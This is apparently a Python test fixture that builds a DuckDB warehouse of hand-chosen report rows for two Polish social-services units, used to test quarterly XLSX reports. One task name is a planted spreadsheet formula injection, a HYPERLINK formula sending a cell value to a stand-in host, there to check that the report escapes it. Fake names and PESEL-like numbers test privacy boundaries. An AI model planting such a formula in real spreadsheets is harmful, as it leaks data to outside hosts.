"""A small warehouse made by code for the report tests: the report.* tables (the interface of the
indicators work) with hand-written rows for two units and one quarter, plus raw.file_versions.

Figures are hand-chosen so their Polish formats are easy to look for (1 234 567,90 zł); derived
money follows the rules of docs/domain.md §2–§3 (indirect = 15% half up, EU = 84,28% rounded down).
A raw participants table with a PESEL-like pseudonym column and names is planted to prove the
report never reads person-level tables.
"""

from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal as D
from pathlib import Path

import duckdb

from core.money import eu_part, indirect_costs, national_part
from core.pesel import make_pesel
from core.quarters import quarters_between
from core.registry import unit_by_key

QUARTER = "2021Q3"
UNITS = ("elblag", "srokowo")
EU_RATE = unit_by_key("elblag").eu_rate  # 84,28% in config/units.yaml
RATE = unit_by_key("elblag").indirect_rate  # 15%

# A formula smuggled in through a task name of the agreement budget (must stay text in the XLSX).
EVIL_TASK = '=HYPERLINK("http://zly.example/?x="&A1;"Zadanie 3")'
# Person-level data that exists only in a raw table the report must never read.
PARTICIPANT_NAMES = ("Grażyna Kowalczykowska", "Zbigniew Wróblewski")
PESELS = (make_pesel(date(1944, 5, 14), sex="M", serial=135), make_pesel(date(2002, 7, 8), sex="K", serial=362))

DDL = """
CREATE SCHEMA IF NOT EXISTS raw;
CREATE SCHEMA IF NOT EXISTS report;
CREATE TABLE report.indicators (unit VARCHAR, quarter VARCHAR, code VARCHAR, name VARCHAR, kind VARCHAR,
    sort_order INTEGER, measure_unit VARCHAR, target_total DECIMAL(18,4), target_women DECIMAL(18,4),
    target_men DECIMAL(18,4), quarter_total DECIMAL(18,4), quarter_women DECIMAL(18,4), quarter_men DECIMAL(18,4),
    cumulative_total DECIMAL(18,4), cumulative_women DECIMAL(18,4), cumulative_men DECIMAL(18,4),
    pct DECIMAL(9,4));
CREATE TABLE report.participant_profile (unit VARCHAR, quarter VARCHAR, code VARCHAR, label VARCHAR,
    sort_order INTEGER, sensitive BOOLEAN, age_group INTEGER, quarter_total BIGINT, cumulative_total BIGINT,
    cumulative_women BIGINT, cumulative_men BIGINT, quarter_women BIGINT, quarter_men BIGINT);
CREATE TABLE report.services_by_area (unit VARCHAR, quarter VARCHAR, area INTEGER, deliveries BIGINT,
    units DECIMAL(18,2), persons BIGINT, quarter_value DECIMAL(18,2), cumulative_value DECIMAL(18,2));
CREATE TABLE report.services_by_mode (unit VARCHAR, quarter VARCHAR, mode VARCHAR, deliveries BIGINT,
    quarter_value DECIMAL(18,2), cumulative_value DECIMAL(18,2));
CREATE TABLE report.services_by_service (unit VARCHAR, quarter VARCHAR, service_code VARCHAR, service_name VARCHAR,
    area INTEGER, mode VARCHAR, deliveries BIGINT, units DECIMAL(18,2), quarter_value DECIMAL(18,2),
    cumulative_value DECIMAL(18,2));
CREATE TABLE report.commissioned (unit VARCHAR, quarter VARCHAR, commissioned_amount DECIMAL(18,2),
    direct_costs DECIMAL(18,2), share DECIMAL(9,4), threshold DECIMAL(9,4), met BOOLEAN);
CREATE TABLE report.finance_by_task (unit VARCHAR, quarter VARCHAR, task_no INTEGER, task_name VARCHAR,
    budget DECIMAL(18,2), quarter_amount DECIMAL(18,2), cumulative_amount DECIMAL(18,2), pct DECIMAL(9,4));
CREATE TABLE report.finance_by_category (unit VARCHAR, quarter VARCHAR, task_no INTEGER, cost_category VARCHAR,
    category_name VARCHAR, budget DECIMAL(18,2), quarter_amount DECIMAL(18,2), cumulative_amount DECIMAL(18,2),
    pct DECIMAL(9,4));
CREATE TABLE report.plan_vs_actual (unit VARCHAR, quarter VARCHAR, planned DECIMAL(18,2), actual DECIMAL(18,2));
CREATE TABLE report.settlement (unit VARCHAR, quarter VARCHAR, direct_quarter DECIMAL(18,2),
    direct_cumulative DECIMAL(18,2), indirect_rate DECIMAL(9,4), indirect_quarter DECIMAL(18,2),
    indirect_cumulative DECIMAL(18,2), eligible_quarter DECIMAL(18,2), eligible_cumulative DECIMAL(18,2),
    eu_quarter DECIMAL(18,2), eu_cumulative DECIMAL(18,2), national_quarter DECIMAL(18,2),
    national_cumulative DECIMAL(18,2), budget_total DECIMAL(18,2), budget_used_share DECIMAL(9,4),
    cross_financing DECIMAL(18,2), cross_financing_share DECIMAL(9,4), cross_financing_limit DECIMAL(9,4),
    cross_financing_allowed DECIMAL(18,2), cross_financing_over_limit BOOLEAN, fixed_assets DECIMAL(18,2),
    fixed_assets_share DECIMAL(9,4), fixed_assets_limit DECIMAL(9,4), fixed_assets_allowed DECIMAL(18,2),
    fixed_assets_over_limit BOOLEAN, projected_total DECIMAL(18,2), projection_risk BOOLEAN);
CREATE TABLE report.advances (unit VARCHAR, quarter VARCHAR, tranches BIGINT, received_total DECIMAL(18,2),
    received_eu DECIMAL(18,2), received_state DECIMAL(18,2), spent DECIMAL(18,2), spent_share DECIMAL(9,4),
    threshold DECIMAL(9,4), next_tranche_allowed BOOLEAN);
CREATE TABLE report.data_quality (unit VARCHAR, quarter VARCHAR, dataset VARCHAR, received BIGINT,
    accepted BIGINT, quarantined BIGINT, warnings BIGINT);
CREATE TABLE report.quarantine_reasons (unit VARCHAR, quarter VARCHAR, dataset VARCHAR, reason VARCHAR,
    severity VARCHAR, rows BIGINT);
CREATE TABLE report.flags (unit VARCHAR, quarter VARCHAR, severity VARCHAR, area VARCHAR, message VARCHAR);
CREATE TABLE report.milestones (unit VARCHAR, code VARCHAR, name VARCHAR, planned_date DATE, achieved_date DATE,
    on_time BOOLEAN);
CREATE SCHEMA IF NOT EXISTS mart;
CREATE TABLE mart.fact_expense (unit VARCHAR, quarter VARCHAR, document_no VARCHAR, issuer_nip VARCHAR,
    issue_date DATE, payment_date DATE, task_no BIGINT, task_name VARCHAR, cost_category VARCHAR,
    category_name VARCHAR, item_name VARCHAR, gross_amount DECIMAL(18,2), net_amount DECIMAL(18,2),
    eligible_amount DECIMAL(18,2), vat_amount DECIMAL(18,2), cross_financing BOOLEAN, fixed_asset BOOLEAN,
    commissioned BOOLEAN, correction BOOLEAN, in_budget BOOLEAN, source_file VARCHAR, file_sha256 VARCHAR,
    row_number BIGINT);
CREATE TABLE mart.narrative (unit VARCHAR, quarter VARCHAR, part VARCHAR, task_no BIGINT, task_name VARCHAR,
    narrative_text VARCHAR, signed_on DATE, source_file VARCHAR, file_sha256 VARCHAR, row_number BIGINT);
CREATE TABLE raw.file_versions (unit VARCHAR NOT NULL, quarter VARCHAR, dataset VARCHAR NOT NULL,
    source_file VARCHAR NOT NULL, file_sha256 VARCHAR NOT NULL, version_no INTEGER NOT NULL, size_bytes BIGINT,
    encoding VARCHAR, rows_loaded BIGINT, ignored_columns VARCHAR[], first_loaded_at TIMESTAMP NOT NULL,
    last_loaded_at TIMESTAMP NOT NULL, is_current BOOLEAN NOT NULL);
CREATE TABLE raw.participants (unit VARCHAR, quarter VARCHAR, participant_id VARCHAR, person_key VARCHAR,
    first_name VARCHAR, last_name VARCHAR, pesel VARCHAR);
"""


def _settlement(unit: str, direct_q: D, direct_cum: D, budget: D, cross: D, fixed: D, projected: D) -> dict:
    ind_q, ind_cum = indirect_costs(direct_q, RATE), indirect_costs(direct_cum, RATE)
    el_q, el_cum = direct_q + ind_q, direct_cum + ind_cum
    return {
        "unit": unit, "quarter": QUARTER, "direct_quarter": direct_q, "direct_cumulative": direct_cum,
        "indirect_rate": RATE, "indirect_quarter": ind_q, "indirect_cumulative": ind_cum,
        "eligible_quarter": el_q, "eligible_cumulative": el_cum,
        "eu_quarter": eu_part(el_q, EU_RATE), "eu_cumulative": eu_part(el_cum, EU_RATE),
        "national_quarter": national_part(el_q, EU_RATE), "national_cumulative": national_part(el_cum, EU_RATE),
        "budget_total": budget, "budget_used_share": (el_cum / budget).quantize(D("0.0001")),
        "cross_financing": cross, "cross_financing_share": (cross / el_cum).quantize(D("0.0001")),
        "cross_financing_limit": D("0.10"), "cross_financing_over_limit": cross > D("0.10") * el_cum,
        "cross_financing_allowed": D("0.10") * budget, "fixed_assets_allowed": D("0.10") * budget,
        "fixed_assets": fixed, "fixed_assets_share": (fixed / el_cum).quantize(D("0.0001")),
        "fixed_assets_limit": D("0.10"), "fixed_assets_over_limit": fixed > D("0.10") * el_cum,
        "projected_total": projected, "projection_risk": projected < budget * D("0.95"),
    }


SETTLEMENT = [
    # Elbląg: eligible cumulative 1 073 537,30 + 161 030,60 = 1 234 567,90 zł.
    _settlement("elblag", D("312450.20"), D("1073537.30"), D("2499985.00"), D("15000.00"), D("8200.00"),
                D("2410000.00")),
    _settlement("srokowo", D("198765.43"), D("654321.09"), D("2489370.50"), D("81000.00"), D("0.00"),
                D("1990000.00")),
]
_S = {s["unit"]: s for s in SETTLEMENT}


def _indicator(unit, code, name, kind, order, target, target_w, target_m, q, q_w, q_m, cum, cum_w, cum_m):
    pct = (D(cum) / D(target)).quantize(D("0.0001")) if target else None
    return {"unit": unit, "quarter": QUARTER, "code": code, "name": name, "kind": kind, "sort_order": order,
            "measure_unit": "osoby", "target_total": target, "target_women": target_w, "target_men": target_m,
            "quarter_total": q, "quarter_women": q_w, "quarter_men": q_m, "cumulative_total": cum,
            "cumulative_women": cum_w, "cumulative_men": cum_m, "pct": pct}


def _share_indicator(unit: str, threshold: D, quarter_share: D, cumulative_share: D) -> dict:
    """REZ_ZLECANIE: commissioned share of direct costs against the unit's threshold (values are ratios)."""
    row = _indicator(unit, "REZ_ZLECANIE", "Udział usług zleconych w kosztach bezpośrednich", "rezultat", 7,
                     threshold, None, None, quarter_share, None, None, cumulative_share, None, None)
    return {**row, "measure_unit": "%"}


INDICATORS = [
    _indicator("elblag", "PROD_OSOBY_USLUGI", "Liczba osób objętych usługami społecznymi", "produkt", 1,
               1400, 840, 560, 385, 231, 154, 1214, 729, 485),
    _indicator("elblag", "PROD_OSOBY_ZAGROZONE", "Liczba osób zagrożonych ubóstwem lub wykluczeniem społecznym "
               "objętych usługami w interesie ogólnym", "produkt", 2, 600, 360, 240, 97, 60, 37, 233, 141, 92),
    _indicator("elblag", "PROD_CUS", "Liczba utworzonych centrów usług społecznych", "produkt", 4,
               1, None, None, 1, None, None, 1, None, None),
    _indicator("elblag", "REZ_SCIEZKA", "Liczba osób, które zakończyły ścieżkę", "rezultat", 6,
               300, 180, 120, 12, 7, 5, 31, 19, 12),
    _indicator("srokowo", "PROD_OSOBY_USLUGI", "Liczba osób objętych usługami społecznymi", "produkt", 1,
               250, 150, 100, 47, 30, 17, 118, 70, 48),
    _indicator("srokowo", "PROD_OSOBY_ZAGROZONE", "Liczba osób zagrożonych ubóstwem lub wykluczeniem społecznym "
               "objętych usługami w interesie ogólnym", "produkt", 2, 120, 70, 50, 19, 11, 8, 44, 25, 19),
    _indicator("srokowo", "PROD_CUS", "Liczba utworzonych centrów usług społecznych", "produkt", 4,
               1, None, None, 0, None, None, 1, None, None),
    _indicator("srokowo", "REZ_SCIEZKA", "Liczba osób, które zakończyły ścieżkę", "rezultat", 6,
               60, 36, 24, 3, 2, 1, 9, 5, 4),
    _share_indicator("elblag", D("0.35"), D("0.3072"), D("0.1969")),
    _share_indicator("srokowo", D("0.35"), D("0.1358"), D("0.4004")),
]


def _profile(unit, code, label, order, sensitive, age_group, q, cum, w, m):
    return {"unit": unit, "quarter": QUARTER, "code": code, "label": label, "sort_order": order,
            "sensitive": sensitive, "age_group": age_group, "quarter_total": q, "cumulative_total": cum,
            "cumulative_women": w, "cumulative_men": m}


PROFILE = [
    _profile("elblag", "UNEMPLOYED", "bezrobotni", 1, False, None, 61, 188, 101, 87),
    _profile("elblag", "AGE_U25", "poniżej 25 lat", 10, False, 1, 44, 139, 77, 62),
    _profile("elblag", "AGE_25_54", "25–54 lata", 11, False, 2, 190, 612, 360, 252),
    _profile("elblag", "AGE_55", "powyżej 54 lat", 12, False, 3, 151, 463, 292, 171),
    # Sensitive: 3 persons with a disability in Elbląg (small), 6 minority (4 K + 2 M: both parts small).
    _profile("elblag", "DISABILITY", "osoby z niepełnosprawnościami", 20, True, None, 1, 3, 2, 1),
    _profile("elblag", "HOMELESS", "osoby bezdomne lub wykluczone z dostępu do mieszkań", 21, True, None, 0, 0, 0, 0),
    _profile("elblag", "MINORITY", "migranci, mniejszości, osoby obcego pochodzenia", 22, True, None, 2, 6, 4, 2),
    _profile("srokowo", "UNEMPLOYED", "bezrobotni", 1, False, None, 9, 27, 15, 12),
    _profile("srokowo", "AGE_U25", "poniżej 25 lat", 10, False, 1, 6, 17, 9, 8),
    _profile("srokowo", "AGE_25_54", "25–54 lata", 11, False, 2, 21, 55, 31, 24),
    _profile("srokowo", "AGE_55", "powyżej 54 lat", 12, False, 3, 20, 46, 30, 16),
    _profile("srokowo", "DISABILITY", "osoby z niepełnosprawnościami", 20, True, None, 4, 12, 7, 5),
    _profile("srokowo", "HOMELESS", "osoby bezdomne lub wykluczone z dostępu do mieszkań", 21, True, None, 1, 2, 1, 1),
    _profile("srokowo", "MINORITY", "migranci, mniejszości, osoby obcego pochodzenia", 22, True, None, 0, 0, 0, 0),
]

SERVICES_AREA = [
    {"unit": "elblag", "quarter": QUARTER, "area": 1, "deliveries": 412, "units": D("824.00"), "persons": 130,
     "quarter_value": D("41200.00"), "cumulative_value": D("98760.50")},
    {"unit": "elblag", "quarter": QUARTER, "area": 4, "deliveries": 1530, "units": D("3060.00"), "persons": 260,
     "quarter_value": D("153000.00"), "cumulative_value": D("402118.75")},
    {"unit": "elblag", "quarter": QUARTER, "area": 6, "deliveries": 640, "units": D("1280.00"), "persons": 71,
     "quarter_value": D("96000.00"), "cumulative_value": D("211400.00")},
    {"unit": "srokowo", "quarter": QUARTER, "area": 4, "deliveries": 318, "units": D("636.00"), "persons": 52,
     "quarter_value": D("31800.00"), "cumulative_value": D("88245.10")},
    {"unit": "srokowo", "quarter": QUARTER, "area": 11, "deliveries": 45, "units": D("90.00"), "persons": 38,
     "quarter_value": D("13500.00"), "cumulative_value": D("30150.00")},
]

SERVICES_MODE = [
    {"unit": "elblag", "quarter": QUARTER, "mode": "own", "deliveries": 1942, "quarter_value": D("194200.00"),
     "cumulative_value": D("500879.25")},
    {"unit": "elblag", "quarter": QUARTER, "mode": "pes", "deliveries": 640, "quarter_value": D("96000.00"),
     "cumulative_value": D("211400.00")},
    {"unit": "srokowo", "quarter": QUARTER, "mode": "ngo", "deliveries": 363, "quarter_value": D("45300.00"),
     "cumulative_value": D("118395.10")},
]

SERVICES_SERVICE = [
    {"unit": "elblag", "quarter": QUARTER, "service_code": "WYTCHN", "service_name": "Opieka wytchnieniowa",
     "area": 6, "mode": "pes", "deliveries": 640, "units": D("1280.00"), "quarter_value": D("96000.00"),
     "cumulative_value": D("211400.00")},
    {"unit": "elblag", "quarter": QUARTER, "service_code": "RODZ", "service_name": "Pakiet dla rodziny w kryzysie",
     "area": 1, "mode": "own", "deliveries": 412, "units": D("824.00"), "quarter_value": D("41200.00"),
     "cumulative_value": D("98760.50")},
    {"unit": "elblag", "quarter": QUARTER, "service_code": "OPIEKA", "service_name": "Usługi opiekuńcze",
     "area": 4, "mode": "own", "deliveries": 1530, "units": D("3060.00"), "quarter_value": D("153000.00"),
     "cumulative_value": D("402118.75")},
    {"unit": "srokowo", "quarter": QUARTER, "service_code": "TAXI", "service_name": "Senior taxi", "area": 4,
     "mode": "ngo", "deliveries": 318, "units": D("636.00"), "quarter_value": D("31800.00"),
     "cumulative_value": D("88245.10")},
    {"unit": "srokowo", "quarter": QUARTER, "service_code": "ORG", "service_name": "Organizowanie społeczności",
     "area": 11, "mode": "ngo", "deliveries": 45, "units": D("90.00"), "quarter_value": D("13500.00"),
     "cumulative_value": D("30150.00")},
]

COMMISSIONED = [
    {"unit": "elblag", "quarter": QUARTER, "commissioned_amount": D("211400.00"),
     "direct_costs": _S["elblag"]["direct_cumulative"],
     "share": (D("211400.00") / _S["elblag"]["direct_cumulative"]).quantize(D("0.0001")), "threshold": D("0.35"),
     "met": False},
    {"unit": "srokowo", "quarter": QUARTER, "commissioned_amount": D("261970.00"),
     "direct_costs": _S["srokowo"]["direct_cumulative"],
     "share": (D("261970.00") / _S["srokowo"]["direct_cumulative"]).quantize(D("0.0001")), "threshold": D("0.35"),
     "met": True},
]


def _task(unit, no, name, budget, q, cum):
    return {"unit": unit, "quarter": QUARTER, "task_no": no, "task_name": name, "budget": budget,
            "quarter_amount": q, "cumulative_amount": cum, "pct": (cum / budget).quantize(D("0.0001"))}


FINANCE_TASKS = [
    _task("elblag", 0, "Koszty pośrednie", D("326085.00"), _S["elblag"]["indirect_quarter"],
          _S["elblag"]["indirect_cumulative"]),
    _task("elblag", 1, "Diagnoza potrzeb i potencjału", D("180000.00"), D("12450.20"), D("143537.30")),
    _task("elblag", 2, "Usługi społeczne CUS", D("1993900.00"), D("300000.00"), D("930000.00")),
    _task("srokowo", 0, "Koszty pośrednie", D("324700.50"), _S["srokowo"]["indirect_quarter"],
          _S["srokowo"]["indirect_cumulative"]),
    _task("srokowo", 1, "Diagnoza potrzeb i potencjału", D("120000.00"), D("18765.43"), D("104321.09")),
    _task("srokowo", 3, EVIL_TASK, D("2044670.00"), D("180000.00"), D("550000.00")),
]

FINANCE_CATEGORIES = [
    {"unit": "elblag", "quarter": QUARTER, "task_no": 1, "cost_category": "1.1", "category_name": "Wynagrodzenia",
     "budget": D("180000.00"), "quarter_amount": D("12450.20"), "cumulative_amount": D("143537.30"),
     "pct": D("0.7974")},
    {"unit": "elblag", "quarter": QUARTER, "task_no": 2, "cost_category": "2.1", "category_name": "Usługi opiekuńcze",
     "budget": D("1993900.00"), "quarter_amount": D("300000.00"), "cumulative_amount": D("930000.00"),
     "pct": D("0.4664")},
    {"unit": "elblag", "quarter": QUARTER, "task_no": 2, "cost_category": "2.10", "category_name": "Wyposażenie",
     "budget": D("10000.00"), "quarter_amount": D("0.00"), "cumulative_amount": D("0.00"), "pct": D("0.0000")},
    {"unit": "elblag", "quarter": QUARTER, "task_no": 2, "cost_category": "2.2", "category_name": "Szkolenia",
     "budget": D("20000.00"), "quarter_amount": D("0.00"), "cumulative_amount": D("0.00"), "pct": D("0.0000")},
    {"unit": "srokowo", "quarter": QUARTER, "task_no": 1, "cost_category": "1.1", "category_name": "Diagnoza",
     "budget": D("120000.00"), "quarter_amount": D("18765.43"), "cumulative_amount": D("104321.09"),
     "pct": D("0.8693")},
    {"unit": "srokowo", "quarter": QUARTER, "task_no": 3, "cost_category": "3.1", "category_name": "Usługi zlecone",
     "budget": D("2044670.00"), "quarter_amount": D("180000.00"), "cumulative_amount": D("550000.00"),
     "pct": D("0.2690")},
]


def _plan(unit: str, first: date, last: date, planned_each: D, actual: dict[str, D]) -> list[dict]:
    return [{"unit": unit, "quarter": q, "planned": planned_each, "actual": actual.get(q, D("0.00"))}
            for q in quarters_between(first, last)]


def _actuals(unit: str) -> dict[str, D]:
    s = _S[unit]
    earlier = s["eligible_cumulative"] - s["eligible_quarter"]
    half = (earlier / 2).quantize(D("0.01"))
    return {"2021Q1": half, "2021Q2": earlier - half, QUARTER: s["eligible_quarter"]}


PLAN = (_plan("elblag", date(2021, 1, 1), date(2023, 7, 31), D("227271.36"), _actuals("elblag"))
        + _plan("srokowo", date(2021, 1, 1), date(2023, 5, 31), D("248937.05"), _actuals("srokowo")))

ADVANCES = [
    {"unit": "elblag", "quarter": QUARTER, "tranches": 2, "received_total": D("1500000.00"),
     "received_eu": eu_part(D("1500000.00"), EU_RATE), "received_state": national_part(D("1500000.00"), EU_RATE),
     "spent": _S["elblag"]["eligible_cumulative"],
     "spent_share": (_S["elblag"]["eligible_cumulative"] / D("1500000.00")).quantize(D("0.0001")),
     "threshold": D("0.70"), "next_tranche_allowed": True},
    {"unit": "srokowo", "quarter": QUARTER, "tranches": 2, "received_total": D("1200000.00"),
     "received_eu": eu_part(D("1200000.00"), EU_RATE), "received_state": national_part(D("1200000.00"), EU_RATE),
     "spent": _S["srokowo"]["eligible_cumulative"],
     "spent_share": (_S["srokowo"]["eligible_cumulative"] / D("1200000.00")).quantize(D("0.0001")),
     "threshold": D("0.70"), "next_tranche_allowed": False},
]

DATA_QUALITY = [
    {"unit": "elblag", "quarter": QUARTER, "dataset": "participants", "received": 1214, "accepted": 1209,
     "quarantined": 5, "warnings": 2},
    {"unit": "elblag", "quarter": QUARTER, "dataset": "deliveries", "received": 2585, "accepted": 2582,
     "quarantined": 3, "warnings": 0},
    {"unit": "elblag", "quarter": QUARTER, "dataset": "expenses", "received": 311, "accepted": 311,
     "quarantined": 0, "warnings": 1},
    {"unit": "elblag", "quarter": None, "dataset": "budget", "received": 9, "accepted": 9, "quarantined": 0,
     "warnings": 0},
    {"unit": "srokowo", "quarter": QUARTER, "dataset": "participants", "received": 118, "accepted": 118,
     "quarantined": 0, "warnings": 0},
    {"unit": "srokowo", "quarter": QUARTER, "dataset": "expenses", "received": 97, "accepted": 95,
     "quarantined": 2, "warnings": 0},
]

QUARANTINE_REASONS = [  # errors = the quarantined rows of DATA_QUALITY, warnings = its warnings
    {"unit": "elblag", "quarter": QUARTER, "dataset": "participants", "reason": "Nieprawidłowa suma kontrolna PESEL",
     "severity": "error", "rows": 4},
    {"unit": "elblag", "quarter": QUARTER, "dataset": "participants", "reason": "Brak daty rozpoczęcia udziału",
     "severity": "error", "rows": 1},
    {"unit": "elblag", "quarter": QUARTER, "dataset": "participants", "reason": "PESEL uzupełniony zerem wiodącym",
     "severity": "warning", "rows": 2},
    {"unit": "elblag", "quarter": QUARTER, "dataset": "deliveries", "reason": "Nieznany kod usługi",
     "severity": "error", "rows": 3},
    {"unit": "elblag", "quarter": QUARTER, "dataset": "expenses", "reason": "Kwota w innym formacie",
     "severity": "warning", "rows": 1},
    {"unit": "srokowo", "quarter": QUARTER, "dataset": "expenses", "reason": "Data zapłaty przed datą wystawienia",
     "severity": "error", "rows": 2},
]

FLAGS = [
    {"unit": "elblag", "quarter": QUARTER, "severity": "warning", "area": "usługi zlecone",
     "message": "Udział usług zleconych 19,7% poniżej progu 35%."},
    {"unit": "srokowo", "quarter": QUARTER, "severity": "error", "area": "zaliczki",
     "message": "Rozliczono 64,3% otrzymanych transz — kolejna transza niemożliwa (próg 70%)."},
]

MILESTONES = [
    {"unit": "elblag", "code": "KM1", "name": "Diagnoza potrzeb i potencjału", "planned_date": date(2021, 6, 30),
     "achieved_date": date(2021, 6, 15), "on_time": True},
    {"unit": "elblag", "code": "KM2", "name": "Program usług społecznych przyjęty uchwałą rady",
     "planned_date": date(2021, 9, 30), "achieved_date": None, "on_time": None},
    {"unit": "srokowo", "code": "KM1", "name": "Diagnoza potrzeb i potencjału", "planned_date": date(2021, 4, 30),
     "achieved_date": date(2021, 5, 20), "on_time": False},
]

LOADED = datetime(2021, 10, 12, 9, 30)
FILE_VERSIONS = [
    {"unit": u, "quarter": q, "dataset": ds, "source_file": f"{u}/{q or 'umowa'}/{name}",
     "file_sha256": f"{n:02d}" + "ab" * 31, "version_no": v, "size_bytes": 2048, "encoding": "utf-8",
     "rows_loaded": rows, "ignored_columns": [], "first_loaded_at": LOADED, "last_loaded_at": LOADED,
     "is_current": cur}
    for n, (u, q, ds, name, v, rows, cur) in enumerate([
        ("elblag", QUARTER, "participants", "uczestnicy.xlsx", 1, 1214, False),
        ("elblag", QUARTER, "participants", "uczestnicy.xlsx", 2, 1214, True),
        ("elblag", QUARTER, "expenses", "wydatki.csv", 1, 311, True),
        ("elblag", None, "budget", "budzet.csv", 1, 9, True),
        ("elblag", "2021Q2", "expenses", "wydatki.csv", 1, 280, True),
        ("srokowo", QUARTER, "expenses", "wydatki.csv", 1, 97, True),
    ])
]

PARTICIPANTS_RAW = [
    {"unit": "elblag", "quarter": QUARTER, "participant_id": "E-0001", "person_key": "k" * 64,
     "first_name": PARTICIPANT_NAMES[0].split()[0], "last_name": PARTICIPANT_NAMES[0].split()[1], "pesel": PESELS[0]},
    {"unit": "srokowo", "quarter": QUARTER, "participant_id": "S-0001", "person_key": "m" * 64,
     "first_name": PARTICIPANT_NAMES[1].split()[0], "last_name": PARTICIPANT_NAMES[1].split()[1], "pesel": PESELS[1]},
]

def _doc(unit, no, nip, issued, paid, gross, net, eligible, vat, task, category, row, cf=False, fa=False, comm=False,
         correction=False, quarter=QUARTER):
    return {"unit": unit, "quarter": quarter, "document_no": no, "issuer_nip": nip, "issue_date": issued,
            "payment_date": paid, "task_no": task, "task_name": None, "cost_category": category, "category_name": None,
            "item_name": "Opis pozycji z nazwiskiem Kowalczykowska", "gross_amount": D(gross), "net_amount": D(net),
            "eligible_amount": D(eligible), "vat_amount": D(vat), "cross_financing": cf, "fixed_asset": fa,
            "commissioned": comm, "correction": correction, "in_budget": True, "source_file": f"{unit}/{quarter}/wydatki.csv",
            "file_sha256": "cd" * 32, "row_number": row}


# The claim's list of documents: Elbląg 3 documents of the quarter (one a correction with negative
# amounts), one of an earlier quarter (not listed); Srokowo one commissioned service.
EXPENSES = [
    _doc("elblag", "FV/2021/07/0012", "5260250274", date(2021, 7, 5), date(2021, 7, 19), "1230.00", "1000.00",
         "1230.00", "230.00", 1, "1.1", 2),
    _doc("elblag", "FV/2021/08/0044", "7740001454", date(2021, 8, 2), date(2021, 8, 16), "24600.00", "20000.00",
         "20000.00", "0.00", 2, "2.1", 3, fa=True),
    _doc("elblag", "KOR/2021/09/0001", "5260250274", date(2021, 9, 1), date(2021, 9, 3), "-123.00", "-100.00",
         "-123.00", "-23.00", 1, "1.1", 4, correction=True),
    _doc("elblag", "FV/2021/05/0001", "5260250274", date(2021, 5, 5), date(2021, 5, 19), "100.00", "100.00",
         "100.00", "0.00", 1, "1.1", 2, quarter="2021Q2"),
    _doc("srokowo", "RACH/3/2021", "8451982345", date(2021, 9, 30), None, "180000.00", "180000.00", "180000.00",
         "0.00", 3, "3.1", 2, comm=True, cf=True),
]
EXPENSE_DOCUMENTS_QUARTER = {"elblag": 3, "srokowo": 1}

# The descriptive part of Elbląg's claim (opis_postepu); Srokowo sent none.
NARRATIVE_PROGRESS = "Zadanie 1: diagnoza potrzeb zakończona, raport przekazany radzie programowej."
NARRATIVE_PROBLEM = "Opóźnienie naboru opiekunów wytchnieniowych; działanie naprawcze: drugi nabór we wrześniu."
NARRATIVE_PLAN = "W IV kwartale: uruchomienie mieszkań treningowych i ewaluacja programu."
PREPARED_BY, APPROVED_BY = "Koordynator projektu CUS", "Dyrektor Elbląskiego CUS"
SIGNED_ON = date(2021, 10, 11)
NARRATIVE = [
    {"unit": "elblag", "quarter": QUARTER, "part": p, "task_no": t, "task_name": n, "narrative_text": text,
     "signed_on": d, "source_file": f"elblag/{QUARTER}/opis_postepu.xlsx", "file_sha256": "ef" * 32, "row_number": i}
    for i, (p, t, n, text, d) in enumerate([
        ("progress", 1, "Diagnoza potrzeb", NARRATIVE_PROGRESS, None),
        ("problems", None, None, NARRATIVE_PROBLEM, None),
        ("plan", None, None, NARRATIVE_PLAN, None),
        ("prepared_by", None, None, PREPARED_BY, SIGNED_ON),
        ("approved_by", None, None, APPROVED_BY, SIGNED_ON),
    ], start=2)
]

TABLES: dict[str, list[dict]] = {
    "mart.fact_expense": EXPENSES,
    "mart.narrative": NARRATIVE,
    "report.indicators": INDICATORS,
    "report.participant_profile": PROFILE,
    "report.services_by_area": SERVICES_AREA,
    "report.services_by_mode": SERVICES_MODE,
    "report.services_by_service": SERVICES_SERVICE,
    "report.commissioned": COMMISSIONED,
    "report.finance_by_task": FINANCE_TASKS,
    "report.finance_by_category": FINANCE_CATEGORIES,
    "report.plan_vs_actual": PLAN,
    "report.settlement": SETTLEMENT,
    "report.advances": ADVANCES,
    "report.data_quality": DATA_QUALITY,
    "report.quarantine_reasons": QUARANTINE_REASONS,
    "report.flags": FLAGS,
    "report.milestones": MILESTONES,
    "raw.file_versions": FILE_VERSIONS,
    "raw.participants": PARTICIPANTS_RAW,
}


def build_warehouse(path: Path, skip: tuple[str, ...] = ()) -> Path:
    """Create the warehouse file with every table above (minus `skip`, e.g. to test a fresh warehouse)."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    with duckdb.connect(str(path)) as conn:
        conn.execute(DDL)
        for table, rows in TABLES.items():
            if table in skip:
                conn.execute(f"DROP TABLE {table}")
                continue
            columns = list(rows[0])
            placeholders = ", ".join("?" for _ in columns)
            conn.executemany(f"INSERT INTO {table} ({', '.join(columns)}) VALUES ({placeholders})",
                             [[r[c] for c in columns] for r in rows])
    return path
